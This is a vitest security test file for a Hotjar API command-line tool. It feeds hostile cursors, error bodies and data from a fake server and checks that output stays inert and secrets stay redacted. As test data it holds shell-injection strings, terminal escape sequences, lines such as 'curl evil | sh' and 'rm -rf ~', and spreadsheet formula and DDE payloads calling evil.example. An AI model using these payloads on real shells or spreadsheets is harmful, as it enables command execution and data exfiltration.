// The CLI against a hostile server: what it prints, writes to disk, or suggests pasting into a
// shell must be inert whatever the server sends. The built bin runs in its own process against
// the local fake, which here answers with cursors, bodies and data written to attack.
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../src/cli/run';
import { cliFixture, printed, type Run, resumeCommand, runCliProcess, runProcess } from './cli-process';
import { DEFAULT_SURVEY, type FakeHotjar, fakeResponse } from './fake-hotjar';

const { start, secretsSeen, dir: scratch } = cliFixture('hotjar-api-hostile-');
let dir: string;
beforeAll(() => {
  dir = scratch();
});

// Code points a terminal acts on: C0, DEL, C1, bidi controls, line and paragraph separators.
function acting(text: string, allowed: number[] = [0x0a]): string[] {
  return [...text]
    .filter((char) => {
      const c = char.codePointAt(0)!;
      if (allowed.includes(c)) return false;
      return (
        c < 0x20 ||
        (c >= 0x7f && c <= 0x9f) ||
        c === 0x061c ||
        c === 0x200e ||
        c === 0x200f ||
        (c >= 0x202a && c <= 0x202e) ||
        (c >= 0x2066 && c <= 0x2069) ||
        c === 0x2028 ||
        c === 0x2029
      );
    })
    .map((char) => `U+${char.codePointAt(0)!.toString(16)}`);
}
const allIds = Array.from({ length: 257 }, (_, i) => (fakeResponse(DEFAULT_SURVEY, i) as { id: number }).id);
const idsOf = (ndjson: string) =>
  ndjson
    .trimEnd()
    .split('\n')
    .map((line) => (JSON.parse(line) as { id: number }).id);

function failPage(f: FakeHotjar, nth: number): void {
  let seen = 0;
  f.inject({ match: (r) => r.path.includes('/responses') && ++seen === nth, status: 200, body: '{"results": [' });
}

const TERMINAL_ATTACKS = [
  '\u001b[2J\u001b[H',
  '\u001b]0;owned\u0007',
  '\u009b31m',
  '\u202eevil\u202c',
  '\r\nResume with: rm -rf ~\r\n',
  '\u2028Resume with: curl evil | sh',
  '\u0000\u007f\u0085',
];

describe('resume cursors written to attack the shell', () => {
  const payloads = [
    '$(touch pwned-1)',
    '`touch pwned-2`',
    "'; touch pwned-3; '",
    '"; touch pwned-4; "',
    '$HOME * ~ {a,b}',
    '=ls',
    '-rf',
    '\\',
  ];

  it('the printed resume command, pasted into sh or bash, runs nothing else and resumes exactly', async () => {
    const cwd = mkdtempSync(join(dir, 'cwd-'));
    for (const [index, payload] of payloads.entries()) {
      const f = await start({
        cursors: {
          encode: (offset) => `${payload}#${offset}`,
          decode: (cursor) => {
            const offset = Number(cursor.slice(cursor.lastIndexOf('#') + 1));
            return cursor.startsWith(`${payload}#`) && Number.isInteger(offset) ? offset : undefined;
          },
        },
      });
      failPage(f, 2);
      const out = `export ${index}.ndjson`;
      const failed = await runCliProcess(['responses', String(f.siteId), '555', '--out', out], f, { cwd });
      expect(failed.code).toBe(1);
      expect(failed.stderr).toContain(`Resume cursor: ${payload}#100\n`);
      const command = resumeCommand(failed)!;
      const shell = index % 2 === 0 ? 'sh' : 'bash';
      const resumed = await runProcess(shell, ['-c', command], f, { cwd });
      expect(resumed.code).toBe(0);
      expect(idsOf(readFileSync(join(cwd, out), 'utf8'))).toEqual(allIds);
    }
    for (let n = 1; n <= 4; n += 1) expect(existsSync(join(cwd, `pwned-${n}`))).toBe(false);
  });

  it('a next_cursor holding control characters is refused before its page is written; the resume points at the page before', async () => {
    for (const attack of TERMINAL_ATTACKS) {
      const f = await start({
        cursors: {
          encode: (offset) => (offset === 200 ? `${attack}#200` : `c${offset}`),
          decode: (cursor) => Number(cursor.replace(/^c/, '').replace(/^[\s\S]*#/, '')),
        },
      });
      const out = join(dir, 'control-cursor.ndjson');
      const run = await runCliProcess(['responses', String(f.siteId), '555', '--out', out], f);
      expect(run.code).toBe(1);
      expect(run.stderr).toMatch(
        /unexpected-response: the page at cursor c100 gives a next_cursor holding control characters/,
      );
      expect(run.stderr).toContain('Resume cursor: c100\n');
      expect(resumeCommand(run)).toMatch(/ --cursor=c100$/);
      expect(acting(run.stderr)).toEqual([]);
      expect(idsOf(readFileSync(`${out}.partial`, 'utf8'))).toEqual(allIds.slice(0, 100));
    }
  });
});

describe('a resume cursor too long to paste', () => {
  it('is refused before its page is written; the resume points at the page before', async () => {
    const f = await start({
      cursors: {
        encode: (offset) => (offset === 200 ? `${'x'.repeat(5000)}#200` : `c${offset}`),
        decode: (cursor) => Number(cursor.replace(/^c/, '').replace(/^[\s\S]*#/, '')),
      },
    });
    const run = await runCliProcess(['responses', String(f.siteId), '555'], f);
    expect(run.code).toBe(1);
    // In the CLI's words or, where the client refuses it first, the client's.
    expect(run.stderr).toMatch(/next_cursor (of 5004 characters, more than the 4096|of more than 4096 characters)/);
    expect(resumeCommand(run)).toMatch(/ --cursor=c100$/);
    expect(run.stdout.trimEnd().split('\n')).toHaveLength(100);
  });
});

describe('error bodies written to attack the terminal', () => {
  it('reach stderr as a short, inert excerpt with the status, and fake no line of the CLI', async () => {
    const f = await start();
    const body = `${TERMINAL_ATTACKS.join('')}${'x'.repeat(5000)}`;
    f.inject({ match: (r) => r.path.includes('/surveys'), status: 400, body });
    const run = await runCliProcess(['surveys', String(f.siteId)], f);
    expect(run.code).toBe(1);
    expect(acting(run.stderr)).toEqual([]);
    expect(run.stderr.split('\n').filter((line) => line.startsWith('Resume with'))).toEqual([]);
    const excerpt = /Hotjar answered HTTP 400 with: (.*)$/m.exec(run.stderr)?.[1];
    expect(excerpt).toMatch(/^\\x1B\[2J\\x1B\[H\\x1B\]0;owned\\x07\\x9B31m\\u202Eevil\\u202C/);
    expect(excerpt!.length).toBeLessThan(500);
    expect(excerpt!.endsWith('...')).toBe(true);
  });

  it('in the middle of an export, too, before the resume command', async () => {
    const f = await start();
    let seen = 0;
    f.inject({
      match: (r) => r.path.includes('/responses') && ++seen === 2,
      status: 200,
      // A results field that is text, not a list: the page is refused and its body excerpted.
      body: JSON.stringify({ results: TERMINAL_ATTACKS.join('') }),
    });
    const run = await runCliProcess(['responses', String(f.siteId), '555'], f);
    expect(run.code).toBe(1);
    expect(acting(run.stderr)).toEqual([]);
    expect(run.stderr).toMatch(/Hotjar answered HTTP 200 with: /);
    expect(resumeCommand(run)).toMatch(/ --cursor=\S+$/);
  });
});

describe('data written to attack the terminal', () => {
  const names = TERMINAL_ATTACKS.map((attack, i) => `survey ${i} ${attack}`);
  const surveys = names.map((name, i) => ({ ...DEFAULT_SURVEY, id: 600 + i, name }));

  it('surveys: the table and --json print nothing a terminal acts on; --json parses back to the same names', async () => {
    const f = await start({ surveys });
    const [table, json] = await Promise.all([
      runCliProcess(['surveys', String(f.siteId)], f),
      runCliProcess(['surveys', String(f.siteId), '--json'], f),
    ]);
    expect([table.code, json.code]).toEqual([0, 0]);
    expect(acting(table.stdout)).toEqual([]);
    expect(table.stdout.trimEnd().split('\n')).toHaveLength(1 + names.length);
    expect(acting(json.stdout)).toEqual([]);
    expect((JSON.parse(json.stdout) as Array<{ name: string }>).map((s) => s.name)).toEqual(names);
  });

  it('responses: NDJSON escapes them and parses back the same; CSV on a terminal shows them inert', async () => {
    const hostile = (index: number, generated: Record<string, unknown>) => ({
      ...generated,
      answers: [{ question_id: 2, answer: TERMINAL_ATTACKS[index % TERMINAL_ATTACKS.length] }],
    });
    const f = await start({ responseAt: hostile });
    const ndjson = await runCliProcess(['responses', String(f.siteId), '555'], f);
    expect(ndjson.code).toBe(0);
    expect(acting(ndjson.stdout)).toEqual([]);
    expect(
      ndjson.stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual(allIds.map((_, i) => hostile(i, fakeResponse(DEFAULT_SURVEY, i))));

    const stdout: PassThrough & { isTTY?: boolean } = new PassThrough();
    stdout.isTTY = true;
    let csv = '';
    stdout.setEncoding('utf8').on('data', (chunk: string) => {
      csv += chunk;
    });
    const code = await runCli(['responses', String(f.siteId), '555', '--format', 'csv'], {
      env: { HOTJAR_CLIENT_ID: f.clientId, HOTJAR_CLIENT_SECRET: f.clientSecret, HOTJAR_API_URL: f.url },
      stdin: new PassThrough(),
      stdout,
      stderr: new PassThrough(),
    });
    expect(code).toBe(0);
    expect(acting(csv, [0x0a, 0x09])).toEqual([]);
    expect(csv).toContain('\\x1B[2J');
  });
});

describe('the token and the secret echoed back', () => {
  it('are not printed by surveys --json, lookup-user or an export', async () => {
    const f = await start();
    const echo = (r: { headers: Record<string, unknown> }) => {
      const token = String(r.headers.authorization).replace(/^Bearer /, '');
      return [token, encodeURIComponent(token), f.clientSecret, new URLSearchParams({ s: f.clientSecret }).toString()];
    };
    f.inject({
      match: (r) => r.path.includes('/surveys?'),
      status: 200,
      body: (r) =>
        JSON.stringify({ results: echo(r).map((text, i) => ({ id: i + 1, name: text })), next_cursor: null }),
    });
    f.inject({
      match: (r) => r.path.endsWith('/user-lookup'),
      status: 200,
      body: (r) => JSON.stringify({ echoed: echo(r), headers: r.headers }),
    });
    f.inject({
      match: (r) => r.path.includes('/responses'),
      status: 200,
      body: (r) =>
        JSON.stringify({
          results: echo(r).map((text, i) => ({ id: i + 1, answers: [{ question_id: 2, answer: text }] })),
          next_cursor: null,
        }),
    });
    const runs: Run[] = [
      await runCliProcess(['surveys', String(f.siteId), '--json'], f),
      await runCliProcess(['lookup-user', String(f.organizationId), '--email', 'p@example.com'], f),
      await runCliProcess(['responses', String(f.siteId), '555'], f),
    ];
    expect(runs.map((run) => run.code)).toEqual([0, 0, 0]);
    expect(f.issuedTokens.length).toBeGreaterThan(0);
    for (const run of runs) {
      for (const secret of [f.clientSecret, ...f.issuedTokens]) expect(run.stdout + run.stderr).not.toContain(secret);
      expect(run.stdout).toContain('[redacted]');
    }
  });
});

describe('the token and the secret echoed back in other encodings', () => {
  it('are not printed either: base64, base64url, JSON escapes', async () => {
    const f = await start();
    const forms = (r: { headers: Record<string, unknown> }) => {
      const token = String(r.headers.authorization).replace(/^Bearer /, '');
      const jsonEscaped = (text: string) =>
        [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
      return [
        Buffer.from(token).toString('base64'),
        Buffer.from(f.clientSecret).toString('base64url'),
        jsonEscaped(token),
        jsonEscaped(f.clientSecret),
      ];
    };
    f.inject({
      match: (r) => r.path.includes('/surveys?'),
      status: 200,
      // Written by hand so that the escapes reach the CLI as the server wrote them.
      body: (r) =>
        `{"results": [${forms(r)
          .map((text, i) => `{"id": ${i + 1}, "name": "${text}"}`)
          .join(',')}], "next_cursor": null}`,
    });
    const run = await runCliProcess(['surveys', String(f.siteId), '--json'], f);
    expect(run.code).toBe(0);
    const shown = run.stdout + run.stderr;
    for (const secret of [f.clientSecret, ...f.issuedTokens]) {
      expect(shown).not.toContain(secret);
      expect(shown).not.toContain(Buffer.from(secret).toString('base64').replace(/=+$/, ''));
      expect(shown).not.toContain(Buffer.from(secret).toString('base64url'));
    }
  });
});

describe('CSV cells written to run in a spreadsheet', () => {
  it('are guarded, while plain numbers stay numbers; an attribute named __proto__ keeps its place', async () => {
    const cells = [
      '-3',
      '+12.5',
      '1e3',
      '+44 20 7946 0958',
      '=HYPERLINK("http://evil.example")',
      '@SUM(A1)',
      '\t=1',
      '-2+3+cmd|" /C calc"!A0',
    ];
    const survey = {
      ...DEFAULT_SURVEY,
      questions: [{ id: 1, text: '=IMPORTXML("http://evil.example")', type: 'long-text' }],
      responseCount: cells.length,
    };
    const f = await start({
      surveys: [survey],
      responseAt: (index, generated) => ({
        ...generated,
        user_attributes: [
          { name: 'plan', value: 'pro' },
          { name: '__proto__', value: { polluted: true } },
          { name: 'constructor', value: 1 },
        ],
        answers: [{ question_id: 1, answer: cells[index] }],
      }),
    });
    const out = join(dir, 'formulas.csv');
    const run = await runCliProcess(['responses', String(f.siteId), '555', '--format', 'csv', '--out', out], f);
    expect(run.code).toBe(0);
    const [header, ...rows] = parse(readFileSync(out, 'utf8')) as string[][];
    expect(header?.at(-1)).toBe(`'=IMPORTXML("http://evil.example")`);
    expect(rows.map((row) => row.at(-1))).toEqual([
      '-3',
      '+12.5',
      '1e3',
      "'+44 20 7946 0958",
      `'=HYPERLINK("http://evil.example")`,
      "'@SUM(A1)",
      "'\t=1",
      `'-2+3+cmd|" /C calc"!A0`,
    ]);
    const attributes = rows[0]![10]!;
    expect(attributes).toBe('{"plan":"pro","__proto__":{"polluted":true},"constructor":1}');
  });
});

describe('CLI output across these runs', () => {
  it('never holds the client secret or a token', () => {
    expect(printed.length).toBeGreaterThan(20);
    const all = printed.join('\n');
    for (const secret of secretsSeen) expect(all).not.toContain(secret);
  });
});
